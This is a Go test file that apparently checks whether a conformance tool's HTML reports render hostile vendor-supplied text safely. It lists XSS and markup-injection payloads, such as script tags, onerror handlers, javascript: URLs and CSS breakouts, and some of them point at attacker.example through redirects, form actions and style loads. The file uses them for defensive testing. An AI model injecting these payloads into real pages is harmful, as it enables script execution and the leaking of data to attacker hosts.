package html_test

import (
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/chromedp/chromedp"

	"esconform/reports"
	"esconform/reports/hostile"
	"esconform/reports/text"
)

// attacks are what an endpoint may answer to whoever looks at the report.
func attacks() []string {
	return []string{
		`<script>window.pwned = 1</script>`, `<img src=x onerror="window.pwned = 1">`, `"><svg onload="window.pwned = 1">`, `' onfocus='window.pwned = 1' autofocus='`,
		`</style><style>body { display: none }`, `</script><script>window.pwned = 1</script>`, `--></title><iframe srcdoc="<script>parent.pwned = 1</script>">`, `javascript:window.pwned=1`,
		`<base href="https://attacker.example/">`, `<meta http-equiv="refresh" content="0;url=https://attacker.example/">`, `<a href="javascript:window.pwned=1">click</a>`,
		`;} * { background: url(https://attacker.example/?a) }`, `<form action="https://attacker.example/"><button>x</button></form>`, `<details open ontoggle="window.pwned = 1">`,
		`&lt;script&gt;window.pwned = 1&lt;/script&gt;`, "\u202e\u0000<b>x</b>", `{}{}{}`, `<link rel="stylesheet" href="https://attacker.example/x.css">`, `<object data="x"></object>`,
	}
}

// attacked puts an attack in every place of a report that an endpoint, a vendor's
// fixture or a list of known failures has a say in.
func attacked(a string) reports.Report {
	r := failed()
	r.ID, r.Scenario, r.Title, r.Area, r.Source, r.Reason, r.Site, r.Evidence, r.Reproduce = "vendor/"+a, "vendor/"+a, a, a, a, a, a, a, a
	r.Labels, r.Operations, r.Proves = []string{a}, []string{a}, []string{a}
	r.Known = &reports.Known{Entry: a, Place: a, Requirement: a, Message: a, Owner: a, Reason: a, Link: a, Expires: a}
	r.Repeats = []reports.Verdict{reports.Verdict(a)}
	r.Observations = []reports.Observation{{Requirement: a, Path: a, Reading: a, Value: a}}
	r.Steps = []reports.Step{{Operation: a, Given: a, Fault: a, Request: a, Response: a}}
	f := reports.Finding{Requirement: a, Statement: a, Source: a, Weight: reports.Failure, Message: a, Step: 1, Operation: a, Expectation: a, Path: a, Line: 1, Response: a, Wanted: a, Got: a,
		Diff: []reports.Diff{{Op: "-", Text: a}, {Op: "+", Text: a + a}, {Op: a, Text: a}}, Excerpt: []reports.ExcerptLine{{Number: 1, Text: a, Marked: true}}}
	schema := f
	schema.Requirement = "STA-21"
	r.Findings = []reports.Finding{f, schema, {Weight: reports.Weight(a), Message: a}}
	report := reports.Summarise(reports.Report{RunID: a, Profile: a, SuiteVersion: a, Engine: a, Challenge: a, Complete: true,
		Target:    reports.Target{URL: a, Product: a, Version: a, Vendor: a, Username: a, Sites: []string{a}, Features: []string{a}, States: map[string]string{a: a}},
		Selection: reports.Selection{Only: []string{a}, Labels: a}, Residue: []string{a}, Scenarios: []reports.Result{r, {ID: "vendor/error", Verdict: reports.Verdict(a), Reason: a}},
		Requirements: []reports.Requirement{{ID: a, Area: a, Level: a, Statement: a, Source: a, Confidence: a, Class: a, VerifiedBy: []string{a}, Reason: a}},
		Baseline:     &reports.Comparison{Report: a, Worse: []reports.Change{{ID: a, From: reports.Verdict(a), To: reports.Verdict(a), New: []string{a}}}, Appeared: []string{a}, Vanished: []string{a}, LostCoverage: []string{a}},
		Certification: &reports.Certification{Profile: a, Title: a, Verdict: reports.RunVerdict(a), Reason: a, Core: reports.Tally{Broken: []string{a}, Warned: []string{a}, NotTested: []string{a}},
			Features: []reports.FeatureResult{{Name: a, Claimed: true, Verdict: reports.RunVerdict(a)}}}})
	report.Verdict, report.Reason = reports.RunVerdict(a), a
	return report
}

// tame says what no report may have, whatever is in it: markup of others.
const tame = `!("pwned" in window) && document.scripts.length === 2 && document.querySelectorAll("style").length === 1 && document.forms.length === 2 &&
	!document.querySelector("img, iframe, object, embed, link, base, template, math, foreignObject, meta[http-equiv=refresh]") &&
	[...document.querySelectorAll("*")].every((e) => [...e.attributes].every((a) => !a.name.startsWith("on") && a.name !== "style")) &&
	[...document.querySelectorAll("a")].every((a) => ["file:", "http:", "https:"].includes(a.protocol)) && getComputedStyle(document.body).display === "block"`

func hostileChecks() []check {
	checks := []check{{"a report of hostile text is a page like any other", func(b *tab) {
		b.open(hostile.Report(rand.New(rand.NewPCG(4, 4)), 150, hostile.VendorIDs()), "")
		b.holds(tame)
		b.holds(shownCases + ` === 150`)
		twice := eval[[]string](b, `[...document.querySelectorAll("[id]")].map((e) => e.id).filter((id, i, all) => all.indexOf(id) !== i)`)
		if len(twice) > 0 {
			b.Errorf("names that are there twice: %q", twice)
		}
		eval[any](b, `document.querySelectorAll("details").forEach((d) => { d.open = true })`)
		b.do(chromedp.SendKeys("#scenario-text", "x"))
		b.holds(tame)
	}}}
	for i, attack := range attacks() {
		checks = append(checks, check{fmt.Sprintf("attack %d stays text", i), func(b *tab) {
			b.open(attacked(attack), "")
			eval[any](b, `document.querySelectorAll("details").forEach((d) => { d.open = true })`)
			b.holds(tame)
			want := text.OneLine(attack, 2000)
			if titles := eval[[]string](b, `[...document.querySelectorAll(".case .title, .message, .statement, .fault, .facts dd, .diff td")].map((e) => e.textContent)`); !strings.Contains(strings.Join(titles, "\n"), want) {
				b.Errorf("%q is not shown as it is", want)
			}
			eval[any](b, `document.querySelectorAll("a").forEach((a) => { if (a.getAttribute("href").startsWith("#")) a.click() })`)
			b.holds(tame)
		}})
	}
	return checks
}
